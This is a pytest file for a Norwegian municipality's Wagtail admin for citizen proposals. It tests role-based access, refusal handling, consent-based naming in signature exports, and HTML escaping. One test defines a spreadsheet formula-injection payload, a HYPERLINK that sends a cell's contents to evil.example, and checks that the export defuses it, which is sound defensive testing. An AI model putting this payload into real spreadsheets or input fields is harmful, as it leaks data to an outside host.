"""The political secretariat's admin views: a role matrix over the list, one
proposal, its actions and the export, and moderation through the views."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from proposals import services
from proposals.choices import Status
from proposals.models import Proposal

from .conftest import sign_input, start_input

pytestmark = pytest.mark.django_db

# anonymous → the login page; outside the secretariat → turned away from the
# list (Wagtail's «no permission»: back to the dashboard) and 404 on a
# proposal; the secretariat, the triage unit and superusers → 200.
MATRIX = [
    (None, "login", "login"),
    ("other_unit", "denied", 404),
    ("secretariat", 200, 200),
    ("secretariat_lead", 200, 200),
    ("triage", 200, 200),
    ("superuser", 200, 200),
]


def outcome(response):
    if response.status_code == 302:
        if response["Location"].startswith(reverse("wagtailadmin_login")):
            return "login"
        assert response["Location"] == reverse("wagtailadmin_home")
        return "denied"
    return response.status_code


@pytest.fixture
def pending(secretariat):
    proposal = services.proposal_start(submitted=start_input())
    return services.proposal_confirm(proposal=proposal)


@pytest.mark.parametrize(("who", "list_status", "detail_status"), MATRIX)
@pytest.mark.parametrize("view", ["list", "detail", "export", "print"])
def test_role_matrix(client, staff, pending, who, list_status, detail_status, view):
    if who:
        client.force_login(staff[who])
    url = {
        "list": reverse("proposals_admin:list"),
        "detail": reverse("proposals_admin:detail", args=[pending.pk]),
        "export": reverse("proposals_admin:export", args=[pending.pk]),
        "print": reverse("proposals_admin:print", args=[pending.pk]),
    }[view]
    expected = list_status if view == "list" else detail_status
    assert outcome(client.get(url)) == expected


@pytest.mark.parametrize(
    ("who", "allowed"), [("other_unit", False), ("secretariat", True)]
)
def test_actions_are_checked_where_they_write(client, staff, pending, who, allowed):
    client.force_login(staff[who])
    url = reverse("proposals_admin:detail", args=[pending.pk])
    response = client.post(url, {"action": "publish"})
    pending.refresh_from_db()
    assert (pending.status == Status.COLLECTING) is allowed
    assert response.status_code == (302 if allowed else 404)


def test_unknown_proposal_is_404_for_the_secretariat(client, staff):
    client.force_login(staff["secretariat"])
    url = reverse("proposals_admin:detail", args=[999999])
    assert client.get(url).status_code == 404


def test_menu_item_only_for_those_who_handle(client, staff, pending):
    client.force_login(staff["secretariat"])
    assert (
        "Innbyggerforslag" in client.get(reverse("wagtailadmin_home")).content.decode()
    )
    client.force_login(staff["other_unit"])
    body = client.get(reverse("wagtailadmin_home")).content.decode()
    assert reverse("proposals_admin:list") not in body


def test_refuse_through_the_view_keeps_the_form_on_error(client, staff, pending):
    client.force_login(staff["secretariat"])
    url = reverse("proposals_admin:detail", args=[pending.pk])
    response = client.post(url, {"action": "refuse", "reason": "other", "text": ""})
    assert response.status_code == 200
    assert "Forklar grunnen" in response.content.decode()
    pending.refresh_from_db()
    assert pending.status == Status.PENDING
    response = client.post(
        url, {"action": "refuse", "reason": "not_municipal", "text": "Statlig vei."}
    )
    assert response.status_code == 302
    pending.refresh_from_db()
    assert pending.status == Status.REFUSED


def test_export_names_only_by_consent_in_the_public_version(
    client, staff, published, django_capture_on_commit_callbacks
):
    for n in (1, 2):  # signer 2 agreed to be named, signer 1 did not
        signature = services.signature_request(proposal=published, signed=sign_input(n))
        services.signature_confirm(signature=signature)
    client.force_login(staff["secretariat"])
    url = reverse("proposals_admin:export", args=[published.pk])

    def names(version):
        response = client.get(url, {"versjon": version})
        rows = list(load_workbook(io.BytesIO(response.content)).active.values)
        return [row[1] for row in rows[2:]]

    assert names("offentlig") == ["(navnet er ikke offentlig)", "Signer 2"]
    assert names("intern") == ["Signer 1", "Signer 2"]
    assert Proposal.objects.count() == 1


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'


def test_signature_list_defuses_what_residents_typed(client, staff, published):
    """Issue 11 major 4: every export defuses cells a spreadsheet would run."""
    signed = sign_input(2, name=HOSTILE_NAME)  # signer 2 agreed to be named
    services.signature_confirm(
        signature=services.signature_request(proposal=published, signed=signed)
    )
    client.force_login(staff["secretariat"])
    response = client.get(
        reverse("proposals_admin:export", args=[published.pk]), {"versjon": "intern"}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [c for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet.cell(row=3, column=2).value == "'" + HOSTILE_NAME
    assert "underskrifter-" in response["Content-Disposition"]


def test_printable_list_public_and_internal(client, staff, published):
    for n in (1, 2):  # signer 2 agreed to be named, signer 1 did not
        signature = services.signature_request(
            proposal=published, signed=sign_input(n, name=f"<b>Signer {n}</b>")
        )
        services.signature_confirm(signature=signature)
    client.force_login(staff["secretariat"])
    url = reverse("proposals_admin:print", args=[published.pk])

    public = client.get(url).content.decode()
    assert "&lt;b&gt;Signer 2&lt;/b&gt;" in public
    assert "Signer 1" not in public
    assert "(navnet er ikke offentlig)" in public
    assert "INTERNT" not in public

    internal = client.get(url, {"versjon": "intern"}).content.decode()
    assert "INTERNT – ikke offentlig." in internal
    assert "&lt;b&gt;Signer 1&lt;/b&gt;" in internal
    assert "<b>Signer" not in internal
    # Opening the internal list is logged (who, not what).
    from wagtail.models import ModelLogEntry

    entry = ModelLogEntry.objects.get(action="proposals.signatures_internal")
    assert entry.user == staff["secretariat"]
    assert "Signer" not in str(entry.data)


@pytest.mark.parametrize(("who", "status"), [("other_unit", 404), ("triage", 200)])
def test_printable_list_is_for_the_secretariat(client, staff, published, who, status):
    client.force_login(staff[who])
    url = reverse("proposals_admin:print", args=[published.pk])
    assert client.get(url, {"versjon": "intern"}).status_code == status
